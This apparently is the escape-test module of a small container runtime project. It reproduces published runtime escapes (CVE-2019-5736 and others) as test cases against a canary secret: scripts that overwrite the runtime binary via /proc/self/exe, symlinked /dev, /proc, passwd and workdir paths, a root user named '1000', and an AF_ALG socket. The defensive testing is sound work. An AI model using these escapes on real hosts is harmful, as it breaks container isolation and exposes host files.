"""Escapes that runtimes have had, and published: runc, crun, containerd, Podman, Buildah.

On the first rung stands a runtime as it was, in a few lines; on the others stands `minidocker run`.
docs/advisories.md says for each advisory what was tried here and what stops it.
"""

from __future__ import annotations

import os

from minidocker.escapes.escape import Escape
from minidocker.escapes.files import NAIVE_MOUNT_POINT, link_in_the_image, made_outside
from minidocker.escapes.ourselves import NAIVE_EXE, interpreter_changed
from minidocker.escapes.yard import BASE, VOLUME, Yard
from minidocker.runtime import elf

SET_BIT = "import os;os.chmod('/proc/self/exe',0o4755)"
CHANGE_TRACED = """\
sleep 0.3
chmod 4755 /proc/1/exe
(echo x >> /proc/1/exe)
mkdir -p /tmp/m; mount -o bind /proc/1/exe /tmp/m; mount -o remount,rw,bind /tmp/m"""


def script_in_image(yard: Yard) -> None:
    """Put a script into the image whose interpreter has a form feed in its name, and is a link.

    To Python's str.split() that is a blank, to the kernel a letter.
    """
    for root in (BASE, ""):
        os.symlink("/proc/self/exe", f"{root}/x\x0cy")
    yard.put(f"{BASE}/evil", f"#!/x\x0cy -ISc{SET_BIT}\n")
    os.chmod(f"{BASE}/evil", 0o755)


def loader_in_image(yard: Yard) -> None:
    """Put a program into the image whose loader is the runtime itself: PT_INTERP, elf(5)."""
    machine = elf.EM_X86_64 if os.uname().machine == "x86_64" else elf.EM_AARCH64
    with open(f"{BASE}/evil", "wb") as out:
        out.write(elf.with_interpreter(machine, b"/proc/self/exe"))
    os.chmod(f"{BASE}/evil", 0o755)


def directory_link(name: str):  # type: ignore[no-untyped-def]
    """Let a directory of the image that a runtime works in lead to a directory outside."""

    def setup(yard: Yard) -> None:
        os.makedirs("/outside")
        os.rmdir(f"{BASE}/{name}")
        os.symlink("/outside", f"{BASE}/{name}")

    return setup


def link_made_outside(yard: Yard) -> bool:
    """A link that belongs into a container's /dev stands in the yard's directory."""
    return any(os.path.lexists(f"/outside/{name}") for name in ("ptmx", "fd", "null"))


def mounted_on_outside(yard: Yard) -> bool:
    """Something has been mounted on the yard's directory, for the yard or for a container."""
    for pid in ("self", *map(str, yard.pids())):
        try:
            with open(f"/proc/{pid}/mountinfo", encoding="utf-8") as table:
                if any(line.split()[4] == "/outside" for line in table):
                    return True
        except OSError:
            continue
    return False


NAIVE_DEV = 'os.symlink("pts/ptmx", "/yard/base/dev/ptmx")'
NAIVE_PROC = 'call("mount", b"proc", b"/yard/base/proc", b"proc", 0, None); time.sleep(5)'
NAIVE_NULL = """
open("/yard/base/tmp/keys", "w").close()
call("mount", b"/yard/volume/dev/null", b"/yard/base/tmp/keys", None, 4096, None)   # MS_BIND
print(open("/yard/base/tmp/keys").read())
"""
NAIVE_CONSOLE = NAIVE_NULL.replace("dev/null", "dev/console")
NAIVE_LABEL = """
call("mount", b"/yard/volume", b"/yard/base/proc", None, 4096, None)
label = open("/yard/base/proc/self/attr/exec", "w")     # "procfs", with the secret of the runtime
label.write(open("/canary/token").read())
label.close()
print(open("/yard/volume/self/attr/exec").read())
"""
NAIVE_PASSWD = 'print(open("/yard/base/etc/passwd").read())'
NAIVE_USER = """
rows = [line.split(":") for line in open("/yard/base/etc/passwd")]
os.setuid(int(next(row for row in rows if row[0] == "1000")[2]))    # a number, taken for a name
print(open("/yard/volume/private").read())
"""


def device_links(yard: Yard) -> None:
    """Put a /dev into the volume, whose null and console are links to the secret."""
    os.makedirs(f"{VOLUME}/dev")
    for name in ("null", "console"):
        os.symlink("/canary/token", f"{VOLUME}/dev/{name}")


def false_proc(yard: Yard) -> None:
    """Put into the volume what looks like a /proc."""
    os.makedirs(f"{VOLUME}/self/attr")


def passwd_link(yard: Yard) -> None:
    """Let the image's list of users lead to the secret."""
    os.unlink(f"{BASE}/etc/passwd")
    os.symlink("/canary/token", f"{BASE}/etc/passwd")


def root_called_1000(yard: Yard) -> None:
    """Let the image have a user whose *name* is 1000, who is root; the secret is root's alone."""
    yard.put(f"{BASE}/etc/passwd", "1000:x:0:0:root:/:/bin/sh\nroot:x:0:0::/:/bin/sh\n")
    yard.put(f"{VOLUME}/private", yard.secret)
    os.chmod(f"{VOLUME}/private", 0o600)


AF_ALG = """
call("socket", 38, 5, 0)                               # AF_ALG, SOCK_SEQPACKET
time.sleep(9)
"""


def has_socket(yard: Yard) -> bool:
    """The attack has a socket open: it asks for one of AF_ALG, and for no other."""
    return any(link.startswith("socket:") for link, *_ in yard.open_files())


ESCAPES = (
    Escape("runtime_script", "start the runtime by a script's #! that only the kernel reads right",
           "CVE-2019-5736", program=("$M_BASE/evil",), bare=NAIVE_EXE, setup=script_in_image,
           refusal=True, probe=interpreter_changed),
    Escape("runtime_loader", "start the runtime as the loader of a program of the image's",
           "CVE-2019-5736", program=("$M_BASE/evil", "-I", "-S", "-c", SET_BIT), bare=NAIVE_EXE,
           setup=loader_in_image, refusal=True, probe=interpreter_changed),
    Escape("init_traced", "change the runtime's program with the right to trace, and to mount",
           "CVE-2019-5736", CHANGE_TRACED, begin="capabilities", bare=NAIVE_EXE,
           options=("--init", "--cap-add", "SYS_PTRACE", "--cap-add", "SYS_ADMIN"),
           probe=interpreter_changed),
    Escape("masked_null", "let the mask over a file be a link of others to what they choose",
           "CVE-2025-31133", "cat /proc/keys /proc/timer_list /proc/interrupts", begin="mounts",
           options=("-v", f"{VOLUME}/dev:/dev"), setup=device_links, bare=NAIVE_NULL, refusal=True),
    Escape("console_link", "let /dev/console be a link to what shall be bound or covered",
           "CVE-2025-52565", "cat /dev/console", begin="mounts", terminal=True,
           options=("-t", "-v", f"{VOLUME}/dev:/dev"), setup=device_links, bare=NAIVE_CONSOLE,
           refusal=True),
    Escape("false_proc", "mount a directory on /proc, and read what the runtime writes there",
           "CVE-2019-16884, CVE-2025-52881", "cat /proc/self/attr/exec", begin="mounts",
           options=("-v", f"{VOLUME}:/proc"), setup=false_proc, bare=NAIVE_LABEL, refusal=True),
    Escape("dev_link", "let the image's /dev lead outside, where the runtime makes its links",
           "CVE-2026-41579", "sleep 0.1", begin="rootfs", setup=directory_link("dev"),
           bare=NAIVE_DEV, refusal=True, probe=link_made_outside),
    Escape("proc_link", "let the image's /proc lead outside, where the runtime mounts procfs",
           "CVE-2019-19921, CVE-2023-27561", "sleep 0.3", begin="rootfs",
           setup=directory_link("proc"), bare=NAIVE_PROC, refusal=True, probe=mounted_on_outside),
    Escape("workdir_link", "let the working directory lead outside, where the runtime makes it",
           "CVE-2026-55686", "sleep 0.1", begin="rootfs", options=("-w", "/link/new"),
           setup=link_in_the_image, bare=NAIVE_MOUNT_POINT, probe=made_outside),
    Escape("passwd_link", "let the image's list of users be a link to a file outside",
           "CVE-2024-9676", "cat /etc/passwd", begin="rootfs", setup=passwd_link,
           bare=NAIVE_PASSWD),
    Escape("user_number", "have a user whose name is 1000, and who is root",
           "CVE-2026-46680", "cat $M_VOLUME/private", begin="mounts", options=("--user", "1000"),
           volume=True, setup=root_called_1000, bare=NAIVE_USER),
    Escape("af_alg", "open a socket of the kernel's cryptography, the way to its page cache",
           "CVE-2026-31431", AF_ALG, python=True, probe=has_socket),
)  # fmt: skip
